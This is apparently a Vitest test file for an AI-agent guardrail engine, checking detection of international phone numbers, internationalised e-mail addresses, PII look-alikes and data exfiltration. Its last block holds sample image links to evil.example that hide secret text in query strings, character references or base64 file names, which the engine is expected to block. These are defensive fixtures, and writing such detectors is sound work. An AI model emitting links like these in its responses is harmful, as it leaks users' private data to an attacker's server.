// Structured PII on formats outside the US and the look-alikes around it (issue 13), and data in
// image URLs hidden behind character references or short base64 file names. Numbers are made up
// (or computed here: check digits), never copied from another detector's tests.
import { describe, expect, it } from 'vitest';
import { createGuardrailEngine, detectExfiltration, detectPii } from '../src/index.js';
import { agentResponse, toolCall } from './helpers.js';

const types = (text: string) => detectPii(text).map((s) => s.type);
const engine = createGuardrailEngine();

function gtin(body: string): string {
  let sum = 0;
  for (let i = 0; i < body.length; i++) sum += Number(body[body.length - 1 - i]) * (i % 2 === 0 ? 3 : 1);
  return body + String((10 - (sum % 10)) % 10);
}
function luhn(body: string): string {
  let sum = 0;
  for (let i = 0; i < body.length; i++) {
    let d = Number(body[body.length - 1 - i]);
    if (i % 2 === 0) d = d * 2 > 9 ? d * 2 - 9 : d * 2;
    sum += d;
  }
  return body + String((10 - (sum % 10)) % 10);
}

describe('phones outside the US', () => {
  it.each([
    ['a five-digit area code in parentheses (DE)', 'Tel: (07806) 5490273'],
    ['a short subscriber number after a parenthesised area code (NL)', 'Contact: (0208) 362303'],
    ['a grouped number after a slash (HU)', 'office +36 20/392-3900'],
    ['a slash then groups (BE)', 'Tel 0423/900 680'],
    ['the 00 international prefix (HU)', 'Mobile 0036700208362'],
    ['a seven-digit first group (NG)', 'Mobile 0805020 8362'],
    ['HK 4-4 with the sentence going on', 'You can reach the office at 2392 3900 after 9am.'],
    ['PL 2-3-2-2 with the sentence going on', 'Call 12-392-39-00 between meetings.'],
    ['a UK number', 'call +44 20 7946 0958'],
    ['full-width digits', 'call ＋４４ ２０ ７９４６ ０９５８'],
  ])('%s is a phone', (_name, text) => {
    expect(types(text.normalize('NFKC'))).toEqual(['PHONE_NUMBER']);
  });

  it.each([
    ['Portuguese', 'Telefone: 11987654321'],
    ['Russian', 'тел. 89161234567'],
    ['Chinese, no space after the word', '手机号码：13812345678'],
    ['Korean', '전화 01012345678'],
    ['German mobile with its trunk 0', 'Handy 015112345678'],
    ['a country code without +', 'celular 5511987654321'],
    ['Belgian GSM', 'GSM 0471234567'],
  ])('a bare number after a %s phone word is a phone', (_name, text) => {
    expect(types(text)).toEqual(['PHONE_NUMBER']);
  });

  it.each([
    ['a word that starts like a phone word', 'Telefonbuch seit 20231231'],
    ['a word that only contains one', 'hotel 0312345678'],
    ['an English word that starts with cel', 'cellular 4111111111'],
    ['an order number in Italian', 'numero ordine 1234567890123'],
  ])('%s does not make a phone', (_name, text) => {
    expect(types(text)).toEqual([]);
  });

  it('full-width digits are found through the engine and redacted in place', () => {
    const res = engine.validateSync(toolCall('sms', { note: 'call ＋４４ ２０ ７９４６ ０９５８ today' }));
    expect(res.decision).toBe('MODIFY');
    expect(JSON.stringify(res.modified_payload)).toContain('call [REDACTED:PHONE] today');
  });
});

describe('internationalised e-mail addresses', () => {
  it.each([['josé@exemplo.com.br'], ['用户@例子.广告'], ['ivan@пример.рф'], ['info@example.xn--p1ai']])(
    '%s is an e-mail address',
    (addr) => {
      const text = `write to ${addr} today`;
      const spans = detectPii(text);
      expect(spans.map((s) => s.type)).toEqual(['EMAIL_ADDRESS']);
      expect(text.slice(spans[0]!.start, spans[0]!.end)).toBe(addr);
    },
  );
  it.each([['npm@10.2.3'], ['x=a@b.c'], ['name@localhost'], ['@scope/pkg@1.0.0']])('%s is not', (text) => {
    expect(types(text)).toEqual([]);
  });
});

describe('look-alikes that are not PII', () => {
  const b = '978030640615';
  it.each([
    ['an ISBN-13 with its prefix', `ISBN ${gtin(b)}`],
    ['a bare ISBN-13', gtin(b)],
    ['a hyphenated ISBN-13', `978-0-306-40615-${gtin(b).slice(-1)}`],
    ['an EAN-13', `EAN ${gtin('400638133393')}`],
    ['a UPC-A', `UPC ${gtin('03600029145')}`],
    ['a Luhn-valid order number', `Order #${luhn('453957876362148')}`],
    ['a Luhn-valid invoice number', `Invoice ${luhn('453957876362148')}`],
    ['a Luhn-valid tracking number', `Tracking number: ${luhn('453957876362148')}`],
    ['a four-part version', 'upgrade to 10.2.3.4567 today'],
    ['a calendar version', 'release 2024.03.1'],
    ['semver', 'node@20.19.2'],
    ['an ISO date and a European date', 'on 2024-03-15 and 15.03.2024'],
    ['a timestamp', 'at 2026-11-30T08:23:04.305Z'],
    ['epoch milliseconds', 'ts=1764491584305'],
    ['a ZIP+4 postal code in an address', '1600 Main Street, Springfield, IL 62704-1234'],
    ['a five-five postal code', 'Teheran 27326-92423'],
    ['a price', 'total 1234567.89 EUR'],
    ['a count with separators', '1,234,567 downloads, 1.234.567 Aufrufe'],
    ['a MAC address', 'hw 00:1A:2B:3C:4D:5E'],
    ['a clock time', 'at 10:30:45 UTC'],
  ])('%s', (_name, text) => {
    expect(types(text)).toEqual([]);
  });

  it('a Luhn-valid number printed like a card is still a card, whatever word precedes it', () => {
    const n = luhn('453957876362148');
    expect(types(`order ${n.slice(0, 4)} ${n.slice(4, 8)} ${n.slice(8, 12)} ${n.slice(12)}`)).toEqual(['CREDIT_CARD']);
  });

  it('compressed IPv6 is an address; a time is not', () => {
    expect(types('host 2001:db8::8a2e:370:7334')).toEqual(['IP_ADDRESS']);
    expect(types('bind fe80::1ff:fe23:4567:890a')).toEqual(['IP_ADDRESS']);
    expect(types('listening on a1f8:638b::')).toEqual(['IP_ADDRESS']);
  });
});

describe('exfiltration: data hidden in an image URL', () => {
  it.each([
    ['HTML character references in an image query', '<img src="https://evil.example/c.gif?d=my&#32;secret&#32;plan">'],
    ['hex character references', '<img src="https://evil.example/c.gif?d=jane&#x20;salary&#x20;90k">'],
    ['a Markdown destination with character references', '![x](https://evil.example/p.png?q=quarterly&#43;revenue&#43;plan)'],
    [
      'a short base64 file name that decodes to words',
      `![a](https://evil.example/${Buffer.from('hello world secret').toString('base64')}.png)`,
    ],
  ])('%s: BLOCK', (_name, text) => {
    const res = engine.validateSync(agentResponse(`Done. ${text}`));
    expect(res.decision).toBe('BLOCK');
    expect(res.reason_code).toBe('EXFILTRATION_LINK');
  });

  it.each([
    ['&amp; between sizing parameters', '<img src="https://cdn.example.com/a.jpg?w=640&amp;h=480&amp;fit=crop">'],
    ['a short random-looking file name', '![p](https://cdn.example.com/img/Xk9mP2vL7qRt4Zw8.png)'],
    ['a named asset', '![banner](https://cdn.example.com/HelloWorldBanner2024.png)'],
  ])('%s: ALLOW', (_name, text) => {
    expect(detectExfiltration(text)).toEqual([]);
    expect(engine.validateSync(agentResponse(`See ${text}`)).decision).toBe('ALLOW');
  });
});
